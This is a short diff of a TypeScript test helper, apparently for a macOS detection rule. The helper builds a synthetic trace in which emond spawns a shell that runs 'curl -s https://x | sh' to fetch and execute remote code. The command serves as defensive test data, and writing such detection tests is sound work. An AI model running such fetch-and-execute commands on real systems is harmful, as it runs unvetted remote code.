@@ -52,12 +52,8 @@ function emondRule(overrides: Partial<CompiledRule> = {}): CompiledRule {
 
 function emondTrace(): string[] {
   const t = new TraceBuilder({ version: 9 });
-  const launchd = t.existing(1, '/sbin/launchd', 0);
-  let emond = t.fork(launchd, 500);
-  emond = t.exec(emond, '/sbin/emond');
-  let child = t.fork(emond, 600);
-  child = t.exec(child, '/bin/sh', ['sh', '-c', 'curl -s https://x | sh']);
-  child = t.exec(child, '/usr/bin/curl', ['curl', '-s', 'https://x']);
+  const emond = t.spawn(t.existing(1, '/sbin/launchd', 0), 500, '/sbin/emond');
+  const child = t.exec(t.spawn(emond, 600, '/bin/sh', ['sh', '-c', 'curl -s https://x | sh']), '/usr/bin/curl', ['curl', '-s', 'https://x']);
   t.exit(child);
   return t.lines;
 }
